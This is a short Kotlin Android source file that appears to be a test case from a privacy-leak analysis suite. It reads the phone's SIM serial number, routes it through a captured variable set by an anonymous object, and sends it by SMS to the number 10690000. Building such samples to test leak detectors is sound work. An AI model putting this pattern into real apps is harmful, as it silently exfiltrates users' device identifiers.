package cn.privlens.suite.captured_var_set_by_object

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

interface Taker {
    fun take(text: String)
}

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val phone = getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager
        var seen = "无"
        val taker = object : Taker {
            override fun take(text: String) {
                seen = text
            }
        }
        seen = "空"
        taker.take(phone.simSerialNumber.orEmpty())
        SmsManager.getDefault().sendTextMessage("10690000", null, seen, null, null)
    }
}
